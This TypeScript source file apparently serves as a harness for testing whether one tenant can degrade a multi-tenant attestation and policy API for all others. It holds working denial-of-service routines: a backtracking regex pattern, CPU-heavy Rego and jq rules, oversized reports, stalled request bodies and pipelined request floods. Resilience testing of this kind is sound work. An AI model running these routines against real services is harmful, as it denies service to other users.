import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { fingerprint } from "./large-data.ts";
import { requestText } from "./raw-http.ts";

interface Target {
  readonly address: string;
  readonly org: string;
  readonly apiKey: string;
  /** Receives the status of each response; 0 if there was none. */
  readonly note: (status: number) => void;
}

/** Continues until `isOver` returns true. */
type Course = (isOver: () => boolean) => Promise<void>;

/** Prepares an attack, and returns the function that performs it. */
type Preparation = (target: Target) => Promise<Course>;

const ENVIRONMENT = "production";
const MEGABYTE = 1_000_000;

/** Each text leads to different states of the automaton, so none can be reused. */
const PATTERN = "[ab]*a[ab]{990}[cd]";
const POLICY = `_schema: https://example.com/schemas/policy/environment/v1
artifacts:
  provenance:
    required: true
    exceptions:
      - if: \${{ matches(artifact.name, "${PATTERN}") }}
`;

/** Policies that need all time, all memory, and much output. */
const REGO = [
  "allow if count([1 | some a in numbers.range(1, 3000); some b in numbers.range(1, 3000); a * b == 0]) > 0",
  'allow if count({sprintf("%d-%d", [a, b]) | some a in numbers.range(1, 9000); some b in numbers.range(1, 9000)}) > 0',
  'allow := true\nviolations contains sprintf("%d", [n]) if some n in numbers.range(1, 400000)',
];

/** Possible harm by one organization to all others. */
export const ATTACKS = {
  async patterns(target) {
    await createEnvironment(target);
    await sendForm(target, "PUT", `/policies/${target.org}`, { name: "hostile" }, { policy_file: POLICY });
    const attach = JSON.stringify({ policy_names: ["hostile"] });
    await send(target, "POST", `/environments/${target.org}/${ENVIRONMENT}/policies`, attach);
    const names = Array.from({ length: 20 }, (_, seed) => mixed(20_000, seed));
    const list = `/attestations/${target.org}?name_regex=${encodeURIComponent(PATTERN)}`;
    let round = 0;
    return repeating(4, async () => {
      round += 1;
      if (round % 2 === 0) return await send(target, "GET", list);
      return await report(
        target,
        names.map((name, index) => entryOf(index + round, name)),
      );
    });
  },

  async jqRules(target) {
    const type = {
      name: "slow",
      evaluator: { content_type: "jq", rules: ["[range(20000000)] | length > 0"] },
    };
    await sendForm(target, "POST", `/custom-attestation-types/${target.org}`, type, { type_schema: "{}" });
    const attestation = { attestation_name: "slow", type_name: "slow", attestation_data: { percent: 80 } };
    const path = `/attestations/${target.org}/web/trail/slow/custom`;
    return repeating(16, () => sendForm(target, "POST", path, attestation, {}));
  },

  async rego(target) {
    const form = { attestation_name: "unit", is_compliant: true };
    await sendForm(target, "POST", `/attestations/${target.org}/web/trail/v1/generic`, form, {});
    const context = { trails: [{ flow: "web", trail: "v1" }] };
    const bodies = REGO.map((rule) =>
      JSON.stringify({ context, policy: { files: { "policy.rego": `package policy\n${rule}\n` } } }),
    );
    let sent = 0;
    return repeating(16, () =>
      send(target, "POST", `/evaluations/${target.org}`, bodies[sent++ % bodies.length]),
    );
  },

  async manyErrors(target) {
    await createEnvironment(target);
    const body = JSON.stringify({ type: "K8S", artifacts: Array.from({ length: 100_000 }, () => ({})) });
    return repeating(4, () => send(target, "PUT", reportPath(target), body));
  },

  async heldBodies(target) {
    await createEnvironment(target);
    const head = requestText("PUT", `/api/v2${reportPath(target)}`, {
      ...{ host: new URL(target.address).host, apiKey: target.apiKey, type: "application/json", body: "" },
      announced: 9.5 * MEGABYTE,
    });
    return holding(target, 300, head, Buffer.alloc(9 * MEGABYTE, " "));
  },

  async pipelining(target) {
    const { host } = new URL(target.address);
    const requests = `GET /ready HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(100_000);
    return async (isOver) => {
      const sockets: Socket[] = [];
      for (let count = 0; count < 8; count++) {
        const socket = hold(target, requests);
        // The responses are not read.
        sockets.push(socket.pause());
      }
      while (!isOver()) await delay(50);
      for (const socket of sockets) socket.destroy();
    };
  },

  async heldUploads(target) {
    const form = '--x\r\ncontent-disposition: form-data; name="attachment_file.0"; filename=a\r\n\r\n';
    const head = requestText("POST", `/api/v2/attestations/${target.org}/web/trail/t1/generic`, {
      ...{ host: new URL(target.address).host, apiKey: target.apiKey },
      ...{ type: "multipart/form-data; boundary=x", body: form, announced: 9.5 * MEGABYTE },
    });
    return holding(target, 300, head, Buffer.alloc(9 * MEGABYTE));
  },

  async bodySlots(target) {
    const head = requestText("PUT", `/api/v2/flows/${target.org}`, {
      ...{ host: new URL(target.address).host, apiKey: target.apiKey },
      ...{ type: "application/json", body: " ", announced: 1_000 },
    });
    return holding(target, 2_070, head);
  },

  async longLists(target) {
    await createEnvironment(target);
    const trails = Array.from({ length: 1_000 }, (_, index) => index);
    const record = async (index: number) => {
      for (const attestation_name of ["unit", "lint", "scan", "review"]) {
        const path = `/attestations/${target.org}/web/trail/t${index}/generic`;
        await sendForm(target, "POST", path, { attestation_name, is_compliant: true }, {});
      }
    };
    while (trails.length > 0) await Promise.all(trails.splice(0, 32).map(record));
    for (let first = 0; first < 20_000; first += 100) {
      const artifacts = Array.from({ length: 100 }, (_, index) => entryOf(first + index, `i${index}`));
      await report(target, artifacts);
    }
    const lists = [
      `/trails/${target.org}?per_page=1000`,
      `/trails/${target.org}/web`,
      `/environments/${target.org}/${ENVIRONMENT}/auditlog`,
    ];
    let sent = 0;
    return repeating(8, () => send(target, "GET", lists[sent++ % lists.length] ?? ""));
  },

  async largeReport(target) {
    await createEnvironment(target);
    const artifacts = (first: number) =>
      Array.from({ length: 60_000 }, (_, index) => entryOf(first + index, `i${index}`));
    await report(target, artifacts(0));
    let first = 0;
    const snapshot = `/snapshots/${target.org}/${ENVIRONMENT}/-1`;
    const reporting = repeating(1, async () => {
      first += 60_000;
      return await report(target, artifacts(first));
    });
    const reading = repeating(8, () => send(target, "GET", snapshot));
    return async (isOver) => void (await Promise.all([reporting(isOver), reading(isOver)]));
  },
} as const satisfies Readonly<Record<string, Preparation>>;

/** Repeats a function in several parallel loops. */
function repeating(times: number, work: () => Promise<number>): Course {
  return async (isOver) => {
    const one = async () => {
      while (!isOver()) {
        const status = await work();
        // A limited client waits. The effect on others counts all the same.
        if (status === 429 || status === 503 || status === 0) await delay(100);
      }
    };
    await Promise.all(Array.from({ length: times }, one));
  };
}

async function send(
  { address, apiKey, note }: Target,
  method: string,
  path: string,
  body?: string | FormData,
): Promise<number> {
  const isJson = typeof body === "string";
  const headers = {
    authorization: `Bearer ${apiKey}`,
    ...(isJson && { "content-type": "application/json" }),
  };
  try {
    const answer = await fetch(`${address}/api/v2${path}`, {
      method,
      headers,
      ...(body !== undefined && { body }),
    });
    // Unread data would be kept in memory.
    await answer.arrayBuffer();
    note(answer.status);
    return answer.status;
  } catch {
    note(0);
    return 0;
  }
}

async function sendForm(
  target: Target,
  method: string,
  path: string,
  data: unknown,
  files: Readonly<Record<string, string>>,
): Promise<number> {
  const form = new FormData();
  form.append(path.startsWith("/policies/") ? "payload" : "data_json", JSON.stringify(data));
  for (const [part, text] of Object.entries(files)) form.append(part, new Blob([text]), `${part}.yml`);
  return await send(target, method, path, form);
}

async function createEnvironment(target: Target): Promise<void> {
  const body = JSON.stringify({ name: ENVIRONMENT, type: "K8S", description: "" });
  const status = await send(target, "PUT", `/environments/${target.org}`, body);
  if (status >= 300) throw new Error(`Creating the environment returned ${status}`);
}

function reportPath({ org }: Target): string {
  return `/environments/${org}/${ENVIRONMENT}/report/K8S`;
}

async function report(target: Target, artifacts: readonly unknown[]): Promise<number> {
  return await send(target, "PUT", reportPath(target), JSON.stringify({ type: "K8S", artifacts }));
}

function entryOf(number: number, name: string) {
  return { podName: "p", namespace: "n", digests: { [name]: fingerprint(number) }, creationTimestamp: 1 };
}

/** A pseudo-random text of two letters. */
function mixed(length: number, seed: number): string {
  let state = seed + 1;
  const letters = Array.from({ length }, () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state & 0x10000 ? "a" : "b";
  });
  return letters.join("");
}

/** Sends many bodies that stay incomplete. */
function holding(target: Target, count: number, head: string, body?: Buffer): Course {
  return async (isOver) => {
    const sockets = Array.from({ length: count }, () => hold(target, head, body));
    while (!isOver()) await delay(50);
    for (const socket of sockets) socket.destroy();
  };
}

/** Opens a connection that sends most of a body, and then nothing more. */
function hold({ address, note }: Target, head: string, body?: Buffer): Socket {
  const { hostname, port } = new URL(address);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => {});
  once(socket, "data").then(
    ([answer]: Buffer[]) => note(Number(answer?.toString("latin1", 9, 12))),
    () => note(0),
  );
  socket.write(head);
  if (body !== undefined) socket.write(body);
  return socket;
}
